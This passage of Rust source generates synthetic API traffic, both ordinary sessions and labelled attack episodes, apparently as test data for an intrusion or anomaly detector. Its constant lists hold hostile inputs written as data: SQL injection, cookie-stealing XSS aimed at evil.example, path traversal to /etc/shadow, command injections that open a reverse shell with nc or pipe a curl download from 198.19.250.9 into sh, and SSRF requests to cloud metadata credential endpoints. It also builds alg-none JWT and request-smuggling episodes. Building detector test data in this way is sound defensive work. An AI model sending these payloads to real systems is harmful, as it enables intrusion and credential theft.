            let r = mk(format!("/api/v1/products/{}", p.sku));
            let body = product_json(p, rng);
            tx(rng, at, &r, 200, Some(body))
        }
        _ => {
            let r = mk(format!(
                "/api/v1/search{}",
                query(&[("q", search_term(rng))])
            ));
            tx(rng, at, &r, 200, Some(json!({"results": []})))
        }
    }
}

fn partner_request(w: &World, rng: &mut Rng, at: u64, a: &Actor, who: &Ident) -> Tx {
    let mk = |method, target: String, body| Req {
        method,
        target,
        ua: a.ua,
        auth: Auth::ApiKey(&who.api_key),
        body,
        gzip: a.gzip,
    };
    match rng.below(100) {
        0..=59 => {
            let status = rng.word(&["paid", "shipped"]);
            let r = mk(
                "GET",
                format!(
                    "/api/v1/orders{}",
                    query(&[
                        ("status", status.into()),
                        ("page", rng.range(1, 3).to_string())
                    ])
                ),
                None,
            );
            let orders: Vec<Value> = (0..rng.range(0, 6))
                .map(|_| json!({"id": uuid(rng), "status": status, "total_cents": rng.range(500, 90_000)}))
                .collect();
            tx(rng, at, &r, 200, Some(json!({"orders": orders})))
        }
        60..=96 => {
            let page = rng.range(1, 8);
            let since = iso_date(at / NS - 86_400);
            let r = mk(
                "GET",
                format!(
                    "/api/v1/products{}",
                    query(&[
                        ("page", page.to_string()),
                        ("limit", "50".into()),
                        ("updated_since", since)
                    ])
                ),
                None,
            );
            let body = product_list(w, page, 50, None);
            tx(rng, at, &r, 200, Some(body))
        }
        _ => {
            let body = json!({"url": format!("https://hooks.{}.example.com/orders", who.username.replace('_', "-")),
                              "events": ["order.paid", "order.shipped"]});
            let r = mk("POST", "/api/v1/webhooks".into(), Some(body));
            let ok = json!({"id": uuid(rng), "active": true});
            tx(rng, at, &r, 201, Some(ok))
        }
    }
}

fn support_request(rng: &mut Rng, at: u64, a: &Actor, who: &Ident, page: u64, limit: u64) -> Tx {
    let mk = |target: String| Req {
        method: "GET",
        target,
        ua: a.ua,
        auth: Auth::Basic(&who.basic),
        body: None,
        gzip: a.gzip,
    };
    let r = mk(format!(
        "/api/v1/customers{}",
        query(&[("page", page.to_string()), ("limit", limit.to_string())])
    ));
    let body = customer_list(rng, page, limit);
    tx(rng, at, &r, 200, Some(body))
}

fn support_session_request(rng: &mut Rng, at: u64, a: &Actor, who: &Ident) -> Tx {
    match rng.below(100) {
        0..=49 => {
            let page = rng.range(1, 40);
            support_request(rng, at, a, who, page, 20)
        }
        50..=79 => {
            let r = Req {
                method: "GET",
                target: format!(
                    "/api/v1/customers{}",
                    query(&[("q", capitalized(rng.word(LAST)))])
                ),
                ua: a.ua,
                auth: Auth::Basic(&who.basic),
                body: None,
                gzip: a.gzip,
            };
            let n = rng.range(0, 4);
            let body = customer_list(rng, 1, n);
            tx(rng, at, &r, 200, Some(body))
        }
        _ => {
            let date = iso_date(at / NS - 86_400 * rng.range(1, 30));
            let r = Req {
                method: "GET",
                target: format!("/api/v1/reports/daily{}", query(&[("date", date.clone())])),
                ua: a.ua,
                auth: Auth::Basic(&who.basic),
                body: None,
                gzip: a.gzip,
            };
            let body = json!({"date": date, "orders": rng.range(50, 5000), "revenue_cents": rng.range(100_000, 50_000_000)});
            tx(rng, at, &r, 200, Some(body))
        }
    }
}

fn benign_session(w: &World, rng: &mut Rng, ai: usize, t: u64) -> Conn {
    let a = &w.actors[ai];
    let day = w.day(t);
    let mut txs = Vec::new();
    let mut at = t;
    match a.role {
        Role::Browser | Role::Mobile => {
            let who = &w.idents[a.ident.unwrap_or(0)];
            let token = &who.tokens[day.min(who.tokens.len() - 1)];
            let login = if a.role == Role::Browser { 30 } else { 10 };
            if rng.chance(login) {
                if rng.chance(4) {
                    txs.push(login_tx(rng, at, a.ua, a.gzip, who, day, false));
                    at += ms(rng, 3000, 9000);
                }
                txs.push(login_tx(rng, at, a.ua, a.gzip, who, day, true));
                at += ms(rng, 500, 4000);
            }
            let n = if a.role == Role::Browser {
                rng.range(3, 12)
            } else {
                rng.range(2, 8)
            };
            for _ in 0..n {
                txs.push(user_request(w, rng, at, a, who, token));
                at += ms(rng, 800, 20_000);
            }
        }
        Role::Anonymous => {
            for _ in 0..rng.range(2, 10) {
                txs.push(anonymous_request(w, rng, at, a));
                at += ms(rng, 800, 20_000);
            }
        }
        Role::Partner => {
            let who = &w.idents[a.ident.unwrap_or(0)];
            let n = if rng.chance(60) { 1 } else { rng.range(2, 3) };
            for _ in 0..n {
                txs.push(partner_request(w, rng, at, a, who));
                at += ms(rng, 50, 400);
            }
        }
        Role::Support => {
            let who = &w.idents[a.ident.unwrap_or(0)];
            for _ in 0..rng.range(2, 8) {
                txs.push(support_session_request(rng, at, a, who));
                at += ms(rng, 4000, 25_000);
            }
        }
    }
    Conn {
        client: SocketAddr::new(IpAddr::V4(a.ip), 0),
        txs,
    }
}

/// Session start times of one actor over the span.
fn session_starts(w: &World, rng: &mut Rng, ai: usize) -> Vec<u64> {
    let a = &w.actors[ai];
    let mut out = Vec::new();
    if a.role == Role::Partner {
        let period = a.period_s * NS;
        let mut t = w.start_ns + rng.below(period);
        while t < w.end_ns - MINUTE {
            out.push(t);
            t += period * 85 / 100 + rng.below(period * 30 / 100);
        }
        return out;
    }
    let mean = HOUR as f64 / a.pace.max(1e-6);
    let mut t = w.start_ns;
    loop {
        t += exp_ns(rng, mean);
        if t >= w.end_ns.saturating_sub(10 * MINUTE) {
            break;
        }
        if unit(rng) < a.activity(t) {
            out.push(t);
        }
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Episodes

/// An episode before rendering.
struct Draft {
    kind: Kind,
    subkind: Option<&'static str>,
    conns: Vec<Conn>,
    secret: Option<String>,
    routes: Vec<&'static str>,
}

impl Draft {
    fn new(kind: Kind, subkind: Option<&'static str>, routes: &[&'static str]) -> Draft {
        Draft {
            kind,
            subkind,
            conns: Vec::new(),
            secret: None,
            routes: routes.to_vec(),
        }
    }
}

/// Client ports of episode connections: per address, above the background's range.
#[derive(Default)]
struct Ports(BTreeMap<Ipv4Addr, u16>);

impl Ports {
    fn next(&mut self, ip: Ipv4Addr) -> SocketAddr {
        let p = self.0.entry(ip).or_insert(61_000);
        let port = *p;
        *p = if *p >= 65_500 { 61_000 } else { *p + 1 };
        SocketAddr::new(IpAddr::V4(ip), port)
    }
}

/// Attackers come from 198.18.0.0/15 (never used by the background), a new /24 each.
struct Attackers(u32);

impl Attackers {
    fn next(&mut self, rng: &mut Rng) -> Ipv4Addr {
        let k = self.0;
        self.0 += 1;
        Ipv4Addr::new(
            198,
            18 + (k % 2) as u8,
            ((k / 2 * 37 + 11) % 256) as u8,
            rng.range(2, 250) as u8,
        )
    }
}

/// Splits `txs` into keep-alive connections of up to `per_conn` requests from `ip`.
fn conns_of(ip: Ipv4Addr, txs: Vec<Tx>, per_conn: usize) -> Vec<Conn> {
    let mut out = Vec::new();
    let mut cur = Vec::new();
    for t in txs {
        cur.push(t);
        if cur.len() >= per_conn {
            out.push(Conn {
                client: SocketAddr::new(IpAddr::V4(ip), 0),
                txs: std::mem::take(&mut cur),
            });
        }
    }
    if !cur.is_empty() {
        out.push(Conn {
            client: SocketAddr::new(IpAddr::V4(ip), 0),
            txs: cur,
        });
    }
    out
}

const COMMON_PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "qwerty123",
    "letmein",
    "iloveyou",
    "dragon",
    "monkey",
    "football",
    "sunshine",
    "welcome1",
    "admin123",
    "princess",
    "shadow",
    "master",
    "baseball",
    "summer2024",
];

const SQLI: &[&str] = &[
    "' OR '1'='1",
    "1' UNION SELECT username, password FROM users--",
    "shoes' AND SLEEP(5)-- -",
    "admin'--",
    "1; DROP TABLE orders--",
    "' OR 1=1 LIMIT 1 -- ",
    "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
    "\") OR (\"a\"=\"a",
];
const XSS: &[&str] = &[
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=fetch('//evil.example/'+document.cookie)>",
    "javascript:alert(1)",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert('xss')>",
];
const TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fshadow",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/var/www/../../etc/hosts",
    "../../../../proc/self/environ",
];
const CMD: &[&str] = &[
    "shoes; cat /etc/passwd",
    "x | nc 198.19.250.9 4444 -e /bin/sh",
    "$(curl -s http://198.19.250.9/x.sh | sh)",
    "`id`",
    "a && wget http://198.19.250.9/m -O /tmp/m",
    "test; uname -a",
];
const SSRF: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://127.0.0.1:6379/",
    "http://localhost:8080/admin",
    "file:///etc/passwd",
    "http://metadata.google.internal/computeMetadata/v1/",
    "gopher://127.0.0.1:25/_HELO",
    "http://[::1]:22/",
    "http://10.0.0.10/internal/status",
];

/// Everything the episode builders share.
struct EpCtx<'w> {
    w: &'w World,
    rng: Rng,
    attackers: Attackers,
    /// Identities the episodes already used (each is used by one episode).
    used: BTreeSet<usize>,
}

impl EpCtx<'_> {
    /// The busiest actor of `role` whose identity no episode used yet (a live account).
    fn ident_of(&mut self, role: Role) -> (usize, usize) {
        let mut actors = self.w.actors_of(role);
        let w = self.w;
        actors.sort_by(|&a, &b| w.actors[b].pace.total_cmp(&w.actors[a].pace));
        let pick = actors
            .iter()
            .copied()
            .find(|&a| {
                self.w.actors[a]
                    .ident
                    .is_some_and(|i| !self.used.contains(&i))
            })
            .or_else(|| actors.first().copied())
            .unwrap_or(0);
        let ident = self.w.actors[pick].ident.unwrap_or(0);
        self.used.insert(ident);
        (pick, ident)
    }

    fn attacker_token(&mut self, t: u64) -> (u64, String) {
        let user = self.rng.range(100_000, 120_000);
        let iat = t / NS - self.rng.range(60, 3000);
        (user, jwt(&mut self.rng, "HS256", user, iat, iat + 86_400))
    }
}

fn stuffing(cx: &mut EpCtx, t0: u64) -> Draft {
    let mut d = Draft::new(Kind::CredentialStuffing, None, &["POST /api/v1/login"]);
    let rng = &mut cx.rng;
    let ip = cx.attackers.next(rng);
    let ua = rng.word(&[BROWSER_UAS[0], TOOL_UAS[0]]);
    let mut names = BTreeSet::new();
    let mut txs = Vec::new();
    let mut at = t0;
    while txs.len() < 220 {
        let name = if rng.chance(50) {
            email(rng)
        } else {
            let (f, l) = person(rng);
            format!("{f}{l}{}", rng.range(1, 9999))
        };
        if !names.insert(name.clone()) {
            continue;
        }
        let req = Req {
            method: "POST",
            target: "/api/v1/login".into(),
            ua,
            auth: Auth::None,
            body: Some(json!({"username": name, "password": random_id(rng, 10, LOWER_ALNUM)})),
            gzip: false,
        };
        let t = if rng.chance(2) {
            let (uid, token) = (rng.range(1000, 99_999), random_id(rng, 20, LOWER_ALNUM));
            tx(
                rng,
                at,
                &req,
                200,
                Some(json!({"token": format!("opaque-{token}"), "user": {"id": uid}})),
            )
        } else {
            tx(rng, at, &req, 401, None)
        };
        txs.push(t);
        at += ms(rng, 150, 400);
    }
    d.conns = conns_of(ip, txs, 25);
    d
}

fn brute_force(cx: &mut EpCtx, t0: u64) -> Draft {
    let mut d = Draft::new(Kind::BruteForce, None, &["POST /api/v1/login"]);
    let (_, victim) = cx.ident_of(Role::Browser);
    let rng = &mut cx.rng;
    let ip = cx.attackers.next(rng);
    let username = cx.w.idents[victim].username.clone();
    d.secret = Some(username.clone());
    let mut txs = Vec::new();
    let mut at = t0;
    for k in 0..140 {
        let base = COMMON_PASSWORDS[k % COMMON_PASSWORDS.len()];
        let password = if k < COMMON_PASSWORDS.len() {
            base.to_string()
        } else {
            format!("{base}{}", k / COMMON_PASSWORDS.len())
        };
        let req = Req {
            method: "POST",
            target: "/api/v1/login".into(),
            ua: TOOL_UAS[0],
            auth: Auth::None,
            body: Some(json!({"username": username, "password": password})),
            gzip: false,
        };
        txs.push(tx(rng, at, &req, 401, None));
        at += ms(rng, 300, 900);
    }
    d.conns = conns_of(ip, txs, 20);
    d
}

fn distributed(cx: &mut EpCtx, t0: u64) -> Draft {
    let mut d = Draft::new(Kind::DistributedStuffing, None, &["POST /api/v1/login"]);
    let rng = &mut cx.rng;
    let span = 15 * MINUTE;
    let mut names = BTreeSet::new();
    for _ in 0..50 {
        let ip = cx.attackers.next(rng);
        let ua = *rng.pick(&[
            BROWSER_UAS[0],
            BROWSER_UAS[1],
            BROWSER_UAS[2],
            MOBILE_UAS[0],
        ]);
        let mut times: Vec<u64> = (0..rng.range(2, 4)).map(|_| t0 + rng.below(span)).collect();
        times.sort_unstable();
        for at in times {
            let name = loop {
                let n = email(rng);
                if names.insert(n.clone()) {
                    break n;
                }
            };
            let req = Req {
                method: "POST",
                target: "/api/v1/login".into(),
                ua,
                auth: Auth::None,
                body: Some(json!({"username": name, "password": random_id(rng, 10, LOWER_ALNUM)})),
                gzip: true,
            };
            let t = tx(rng, at, &req, 401, None);
            d.conns.push(Conn {
                client: SocketAddr::new(IpAddr::V4(ip), 0),
                txs: vec![t],
            });
        }
    }
    d
}

fn sharing(cx: &mut EpCtx, t0: u64) -> Draft {
    let mut d = Draft::new(
        Kind::CredentialSharing,
        None,
        &[
            "GET /api/v1/users/{id}",
            "GET /api/v1/users/{id}/orders",
            "GET /api/v1/products/{sku}",
        ],
    );
    let (owner_actor, owner) = cx.ident_of(Role::Browser);
    let w = cx.w;
    let who = &w.idents[owner];
    let token = who.tokens[w.day(t0).min(who.tokens.len() - 1)].clone();
    d.secret = Some(token.clone());
    let rng = &mut cx.rng;
    let mut ips = vec![w.actors[owner_actor].ip];
    for _ in 0..12 {
        ips.push(cx.attackers.next(rng));
    }
    let uas: Vec<&str> = BROWSER_UAS
        .iter()
        .chain(MOBILE_UAS)
        .chain(TOOL_UAS)
        .copied()
        .collect();
    for (k, ip) in ips.into_iter().enumerate() {
        let ua = if k == 0 {
            w.actors[owner_actor].ua
        } else {
            uas[k % uas.len()]
        };
        let a = Actor {
            ip,
            ua,
            role: Role::Browser,
            ident: Some(owner),
            pace: 1.0,
            period_s: 0,
            day_start: 0.0,
            day_end: 24.0,
            night: 1.0,
            gzip: true,
        };
        let mut at = t0 + if k == 0 { 0 } else { rng.below(6 * MINUTE) };
        let mut txs = Vec::new();
        for _ in 0..rng.range(3, 5) {
            txs.push(user_request(w, rng, at, &a, who, &token));
            at += ms(rng, 1000, 8000);
        }
        d.conns.push(Conn {
            client: SocketAddr::new(IpAddr::V4(ip), 0),
            txs,
        });
    }
    d
}

fn enumeration(cx: &mut EpCtx, t0: u64) -> Draft {
    let mut d = Draft::new(
        Kind::Enumeration,
        None,
        &["POST /api/v1/login", "GET /api/v1/users/{id}"],
    );
    let (user, token) = cx.attacker_token(t0);
    d.secret = Some(token.clone());
    let rng = &mut cx.rng;
    let ip = cx.attackers.next(rng);
    let ua = BROWSER_UAS[0];
    let mut txs = Vec::new();
    let req = Req {
        method: "POST",
        target: "/api/v1/login".into(),
        ua,
        auth: Auth::None,
        body: Some(
            json!({"username": format!("tester{user}"), "password": random_id(rng, 12, LOWER_ALNUM)}),
        ),
        gzip: true,
    };
    txs.push(tx(rng, t0, &req, 200, Some(json!({"token": token, "token_type": "Bearer", "expires_in": 86_400, "user": {"id": user}}))));
    let mut at = t0 + ms(rng, 2000, 5000);
    let base = rng.range(20_000, 60_000);
    for id in base..base + 240 {
        let r = Req {
            method: "GET",
            target: format!("/api/v1/users/{id}"),
            ua,
            auth: Auth::Bearer(&token),
            body: None,
            gzip: true,
        };
        let roll = rng.below(100);
        let t = if roll < 60 {
            tx(rng, at, &r, 403, None)
        } else if roll < 85 {
            tx(rng, at, &r, 404, None)
        } else {
            let (f, l) = person(rng);
            let body = user_json(rng, id, &format!("{f}_{l}{}", id % 97));
            tx(rng, at, &r, 200, Some(body))
        };
        txs.push(t);
        at += ms(rng, 200, 600);
    }
    d.conns = conns_of(ip, txs, 50);
    d
}

fn scraping(cx: &mut EpCtx, t0: u64) -> Draft {
    let mut d = Draft::new(
        Kind::Scraping,
        None,
        &["GET /api/v1/products", "GET /api/v1/products/{sku}"],
    );
    let w = cx.w;
    let rng = &mut cx.rng;
    let ip = cx.attackers.next(rng);
    let ua = rng.word(TOOL_UAS);
    let mut txs = Vec::new();
    let mut at = t0;
    for page in 1..=30 {
        let r = Req {
            method: "GET",
            target: format!(
                "/api/v1/products{}",
                query(&[("page", page.to_string()), ("limit", "50".into())])
            ),
            ua,
            auth: Auth::None,
            body: None,
            gzip: false,
        };
        let body = product_list(w, page, 50, None);
        txs.push(tx(rng, at, &r, 200, Some(body)));
        at += ms(rng, 100, 300);
    }
    for p in w.catalogue.iter().take(1000) {
        let r = Req {
            method: "GET",
            target: format!("/api/v1/products/{}", p.sku),
            ua,
            auth: Auth::None,
            body: None,
            gzip: false,
        };
        let body = product_json(p, rng);
        txs.push(tx(rng, at, &r, 200, Some(body)));
        at += ms(rng, 120, 280);
    }
    d.conns = conns_of(ip, txs, 100);
    d
}

fn injection(cx: &mut EpCtx, t0: u64, subkind: &'static str) -> Draft {
    let (payloads, places): (&[&str], &[&str]) = match subkind {
        "sql_injection" => (
            SQLI,
            &[
                "search.q",
                "products.category",
                "login.username",
                "orders.coupon",
            ],
        ),
        "xss" => (XSS, &["search.q", "orders.gift_note", "login.username"]),
        "path_traversal" => (
            TRAVERSAL,
            &["reports.date", "products.category", "search.q"],
        ),
        "command_injection" => (CMD, &["search.q", "orders.gift_note", "webhooks.url"]),
        _ => (SSRF, &["webhooks.url", "search.redirect"]),
    };
    let mut routes: Vec<&'static str> = Vec::new();
    for p in places {
        let r = match p.split('.').next().unwrap_or("") {
            "search" => "GET /api/v1/search",
            "products" => "GET /api/v1/products",
            "login" => "POST /api/v1/login",
            "orders" => "POST /api/v1/orders",
            "webhooks" => "POST /api/v1/webhooks",
            _ => "GET /api/v1/reports/daily",
        };
        if !routes.contains(&r) {
            routes.push(r);
        }
    }
    let mut d = Draft::new(Kind::Injection, Some(subkind), &routes);
    let (_, token) = cx.attacker_token(t0);
    let rng = &mut cx.rng;
    let ip = cx.attackers.next(rng);
    let ua = if subkind == "sql_injection" {
        "sqlmap/1.8.2#stable (https://sqlmap.org)"
    } else {
        BROWSER_UAS[2]
    };
    let api_key = format!("pk_live_{}", random_id(rng, 24, LOWER_ALNUM));
    let basic = format!(
        "report{}:{}",
        rng.range(1, 99),
        random_id(rng, 10, LOWER_ALNUM)
    );
    let mut txs = Vec::new();
    let mut at = t0;
    for k in 0..16 {
        let payload = payloads[k % payloads.len()].to_string();
        let place = places[rng.below(places.len() as u64) as usize];
        let mut r = Req {
            method: "GET",
            target: String::new(),
            ua,
            auth: Auth::None,
            body: None,
            gzip: true,
        };
        match place {
            "search.q" => r.target = format!("/api/v1/search{}", query(&[("q", payload)])),
            "search.redirect" => {
                r.target = format!(
                    "/api/v1/search{}",
                    query(&[("q", "shoes".into()), ("redirect", payload)])
                )
            }
            "products.category" => {
                r.target = format!(
                    "/api/v1/products{}",
                    query(&[("category", payload), ("page", "1".into())])
                )
            }
            "reports.date" => {
                r.target = format!("/api/v1/reports/daily{}", query(&[("date", payload)]));
                r.auth = Auth::Basic(&basic);
            }
            "login.username" => {
                r.method = "POST";
                r.target = "/api/v1/login".into();
                r.body = Some(json!({"username": payload, "password": "x"}));
            }
            "webhooks.url" => {
                r.method = "POST";
                r.target = "/api/v1/webhooks".into();
                r.auth = Auth::ApiKey(&api_key);
                r.body = Some(json!({"url": payload, "events": ["order.paid"]}));
            }
            _ => {
                r.method = "POST";
                r.target = "/api/v1/orders".into();
                r.auth = Auth::Bearer(&token);
                let field = if place == "orders.coupon" {
                    "coupon"
                } else {
                    "gift_note"
                };
                r.body = Some(
                    json!({"items": [{"sku": cx.w.catalogue[k].sku, "qty": 1}], field: payload}),
                );
            }
        }
        let status = *rng.pick(&[400, 400, 500, 200, 401]);
        let ok = if r.method == "POST" {
            json!({"id": uuid(rng), "status": "pending"})
        } else {
            json!({"results": []})
        };
        let status = if status == 200 && r.method == "POST" {
            201
        } else {
            status
        };
        txs.push(tx(rng, at, &r, status, Some(ok)));
        at += ms(rng, 2000, 9000);
    }
    d.conns = conns_of(ip, txs, 8);
    d
}

fn rate_spike(cx: &mut EpCtx, t0: u64) -> Draft {
    let mut d = Draft::new(
        Kind::RateSpike,
        None,
        &["GET /api/v1/orders", "GET /api/v1/products"],
    );
    // A partner no other episode used, the one with the shortest poll period: still slow (a
    // poll every few minutes) but enough requests at 40 times its pace to see within a minute.
    let w = cx.w;
    let mut partners = w.actors_of(Role::Partner);
    partners.sort_by_key(|&a| w.actors[a].period_s);
    let ai = partners
        .iter()
        .copied()
        .find(|&a| w.actors[a].ident.is_some_and(|i| !cx.used.contains(&i)))
        .unwrap_or(partners.first().copied().unwrap_or(0));
    let a = &w.actors[ai];
    let who = &w.idents[a.ident.unwrap_or(0)];
    cx.used.insert(a.ident.unwrap_or(0));
    d.secret = Some(who.api_key.clone());
    let rng = &mut cx.rng;
    // 45 times its usual request rate, for six minutes: about ten times even the rate of the
    // minutes in which it polls.
    let usual_gap = a.period_s as f64 * NS as f64 / a.mean_session();
    let gap = (usual_gap / 45.0) as u64;
    let mut txs = Vec::new();
    let mut at = t0;
    while at < t0 + 6 * MINUTE {
        txs.push(partner_request(w, rng, at, a, who));
        at += gap * 80 / 100 + rng.below(gap * 40 / 100 + 1);
    }
    // Never the webhook route: only the endpoints it polls.
    d.conns = conns_of(a.ip, txs, 10);
    d
}

fn exposure_new_class(cx: &mut EpCtx, t0: u64) -> Draft {
    let mut d = Draft::new(
        Kind::DataExposure,
        Some("new_sensitive_class"),
        &["GET /api/v1/users/{id}/orders", "GET /api/v1/users/{id}"],
    );
    let (ai, ident) = cx.ident_of(Role::Browser);
    let w = cx.w;
    let a = &w.actors[ai];
    let who = &w.idents[ident];
    let token = who.tokens[w.day(t0).min(who.tokens.len() - 1)].clone();
    d.secret = Some(token.clone());
    let rng = &mut cx.rng;
    let mut txs = Vec::new();
    let mut at = t0;
    for k in 0..14 {
        let auth = Auth::Bearer(&token);
        if k % 3 == 2 {
            let r = Req {
                method: "GET",
                target: format!("/api/v1/users/{}", who.user_id),
                ua: a.ua,
                auth,
                body: None,
                gzip: a.gzip,
            };
            let mut body = user_json(rng, who.user_id, &who.username);
            body["ssn"] = json!(ssn(rng));
            body["payment_methods"] = json!([{"card_number": card(rng).1}]);
            txs.push(tx(rng, at, &r, 200, Some(body)));
        } else {
            let r = Req {
                method: "GET",
                target: format!(
                    "/api/v1/users/{}/orders{}",
                    who.user_id,
                    query(&[("page", "1".into())])
                ),
                ua: a.ua,
                auth,
                body: None,
                gzip: a.gzip,
            };
            let body = orders_json(rng, who.user_id, true);
            txs.push(tx(rng, at, &r, 200, Some(body)));
        }
        at += ms(rng, 5000, 40_000);
    }
    d.conns = conns_of(a.ip, txs, 4);
    d
}

fn exposure_bulk(cx: &mut EpCtx, t0: u64) -> Draft {
    let mut d = Draft::new(Kind::DataExposure, Some("bulk"), &["GET /api/v1/customers"]);
    let (ai, ident) = cx.ident_of(Role::Support);
    let w = cx.w;
    let (a, who) = (&w.actors[ai], &w.idents[ident]);
    d.secret = Some(who.basic.clone());
    let rng = &mut cx.rng;
    let mut txs = Vec::new();
    let mut at = t0;
    for page in 1..=25 {
        txs.push(support_request(rng, at, a, who, page, 1000));
        at += ms(rng, 3000, 8000);
    }
    d.conns = conns_of(a.ip, txs, 5);
    d
}

fn broken_auth(cx: &mut EpCtx, t0: u64, subkind: &'static str) -> Draft {
    let routes: &[&'static str] = match subkind {
        "missing_auth" => &["GET /api/v1/users/{id}"],
        _ => &["GET /api/v1/users/{id}", "GET /api/v1/users/{id}/orders"],
    };
    let mut d = Draft::new(Kind::BrokenAuth, Some(subkind), routes);
    let (_, victim) = cx.ident_of(Role::Mobile);
    let w = cx.w;
    let who = &w.idents[victim];
    let rng = &mut cx.rng;
    let ip = cx.attackers.next(rng);
    let ua = TOOL_UAS[1];
    let token = match subkind {
        "alg_none" => Some(jwt(rng, "none", who.user_id, t0 / NS - 60, t0 / NS + 3600)),
        "expired_jwt" => {
            let iat = t0 / NS - 5 * 86_400;
            Some(jwt(rng, "HS256", who.user_id, iat, iat + 86_400))
        }
        _ => None,
    };
    d.secret = token.clone();
    let mut txs = Vec::new();
    let mut at = t0;
    for k in 0..10 {
        let auth = match &token {
            Some(t) => Auth::Bearer(t),
            None => Auth::None,
        };
        let (id, name) = if subkind == "missing_auth" {
            let other = &w.idents[rng.below(w.idents.len() as u64) as usize];
            (other.user_id, other.username.clone())
        } else {
            (who.user_id, who.username.clone())
        };
        let orders = subkind != "missing_auth" && k % 2 == 1;
        let r = Req {
            method: "GET",
            target: if orders {
                format!("/api/v1/users/{id}/orders")
            } else {
                format!("/api/v1/users/{id}")
            },
            ua,
            auth,
            body: None,
            gzip: false,
        };
        let body = if orders {
            orders_json(rng, id, false)
        } else {
            user_json(rng, id, &name)
        };
        txs.push(tx(rng, at, &r, 200, Some(body)));
        at += ms(rng, 3000, 15_000);
    }
    d.conns = conns_of(ip, txs, 5);
    d
}

fn shadow(cx: &mut EpCtx, t0: u64) -> Draft {
    let mut d = Draft::new(Kind::ShadowEndpoint, None, &["GET /api/v1/internal/export"]);
    let (ai, ident) = cx.ident_of(Role::Support);
    let w = cx.w;
    let (a, who) = (&w.actors[ai], &w.idents[ident]);
    d.secret = Some(who.basic.clone());
    let rng = &mut cx.rng;
    let mut txs = Vec::new();
    let mut at = t0;
    for k in 0..20 {
        let table = ["customers", "orders", "payouts"][k % 3];
        let r = Req {
            method: "GET",
            target: format!(
                "/api/v1/internal/export{}",
                query(&[("table", table.into()), ("format", "json".into())])
            ),
            ua: a.ua,
            auth: Auth::Basic(&who.basic),
            body: None,
            gzip: a.gzip,
        };
        let body = json!({"table": table, "rows": rng.range(100, 90_000), "url": format!("s3://shop-exports/{}.json", uuid(rng))});
        txs.push(tx(rng, at, &r, 200, Some(body)));
        at += ms(rng, 10_000, 40_000);
    }
    d.conns = conns_of(a.ip, txs, 4);
    d
}

fn off_hours(cx: &mut EpCtx, t0: u64) -> Draft {
    let mut d = Draft::new(Kind::OffHours, None, &["GET /api/v1/customers"]);
    // The earliest riser among the support staff no other episode used: the most history of
    // its hours by the first night.
    let w = cx.w;
    let mut staff = w.actors_of(Role::Support);
    staff.sort_by(|&a, &b| w.actors[a].day_start.total_cmp(&w.actors[b].day_start));
    let ai = staff
        .iter()
        .copied()
        .find(|&a| w.actors[a].ident.is_some_and(|i| !cx.used.contains(&i)))
        .or_else(|| staff.first().copied())
        .unwrap_or(0);
    let ident = w.actors[ai].ident.unwrap_or(0);
    cx.used.insert(ident);
    let (a, who) = (&w.actors[ai], &w.idents[ident]);
    d.secret = Some(who.basic.clone());
    let rng = &mut cx.rng;
    let mut txs = Vec::new();
    let mut at = t0;
    for page in 1..=120 {
        txs.push(support_request(rng, at, a, who, page, 50));
        at += ms(rng, 4000, 10_000);
    }
    d.conns = conns_of(a.ip, txs, 10);
    d
}

fn protocol_evasion(cx: &mut EpCtx, t0: u64, subkind: &'static str) -> Draft {
    let mut d = Draft::new(
        Kind::ProtocolEvasion,
        Some(subkind),
        &["POST /api/v1/orders"],
    );
    let (_, token) = cx.attacker_token(t0);
    d.secret = Some(token.clone());
    let w = cx.w;
    let rng = &mut cx.rng;
    let ip = cx.attackers.next(rng);
    let mut txs = Vec::new();
    let mut at = t0;
    for k in 0..6 {
        let body = serde_json::to_vec(
            &json!({"items": [{"sku": w.catalogue[k * 7].sku, "qty": 1}],
                                              "shipping": {"method": "standard"}}),
        )
        .unwrap_or_default();
        let auth = format!("Bearer {token}");
        let mut h: Vec<(&str, String)> = vec![
            ("User-Agent", BROWSER_UAS[0].into()),
            ("Authorization", auth),
            ("Content-Type", "application/json".into()),
        ];
        let payload = if subkind == "te_cl" {
            // The chunked framing is the real one; the Content-Length is a decoy.
            h.push(("Content-Length", (body.len() / 2).to_string()));
            h.push(("Transfer-Encoding", "chunked".into()));
            let (a, b) = body.split_at(body.len() / 2);
            http::chunked(&[a, b])
        } else {
            // Two different lengths; the body has the larger.
            h.push(("Content-Length", (body.len() / 3).to_string()));
            h.push(("Content-Length", body.len().to_string()));
            body
        };
        let refs: Vec<(&str, &str)> = h.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let req = http::request("POST", "/api/v1/orders", API_HOST, &refs, &payload);
        let ok = json!({"id": uuid(rng), "status": "pending"});
        let resp = respond(rng, 201, Some(ok), false);
        txs.push(Tx {
            at,
            req,
            resp,
            latency: latency(rng),
        });
        at += ms(rng, 4000, 20_000);
    }
    d.conns = conns_of(ip, txs, 3);
    d
}

/// The episodes of one round; the off-hours one last.
fn episode_plan() -> Vec<(Kind, Option<&'static str>)> {
    vec![
        (Kind::CredentialStuffing, None),
        (Kind::BruteForce, None),
        (Kind::DistributedStuffing, None),
        (Kind::CredentialSharing, None),
        (Kind::Enumeration, None),
        (Kind::Scraping, None),
        (Kind::Injection, Some("sql_injection")),
        (Kind::Injection, Some("xss")),
        (Kind::Injection, Some("path_traversal")),
        (Kind::Injection, Some("command_injection")),
        (Kind::Injection, Some("ssrf")),
        (Kind::RateSpike, None),
        (Kind::DataExposure, Some("new_sensitive_class")),
        (Kind::DataExposure, Some("bulk")),
        (Kind::BrokenAuth, Some("missing_auth")),
        (Kind::BrokenAuth, Some("alg_none")),
        (Kind::BrokenAuth, Some("expired_jwt")),
        (Kind::ShadowEndpoint, None),
        (Kind::ProtocolEvasion, Some("te_cl")),
        (Kind::ProtocolEvasion, Some("conflicting_content_length")),
        (Kind::OffHours, None),
    ]
}

fn draft(cx: &mut EpCtx, kind: Kind, sub: Option<&'static str>, t0: u64) -> Draft {
    match (kind, sub) {
        (Kind::CredentialStuffing, _) => stuffing(cx, t0),
